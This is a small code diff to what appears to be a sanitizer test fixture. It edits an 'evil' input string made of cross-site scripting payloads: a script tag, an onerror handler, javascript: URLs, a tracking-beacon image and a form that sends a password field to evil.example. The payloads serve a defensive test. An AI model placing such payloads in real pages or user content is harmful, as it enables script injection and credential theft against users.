@@ -23,8 +23,9 @@ SCRIPT = {
     "evil": (
         "<script>window.hacked = 1</script><img src=x onerror='window.hacked = 1'>"
         "<iframe src='javascript:parent.hacked=1'></iframe>"
-        "[link](javascript:window.hacked=1) ![beacon](http://beacon.example/x.png)"
-        "<form action='http://evil.example'><input name=password></form> done"
+        "[link](javascript:window.hacked=1)"
+        "<form action='http://evil.example'><input name=password></form>\n\n"
+        "![beacon](http://beacon.example/x.png)\n\n done"
     ),
 }
 
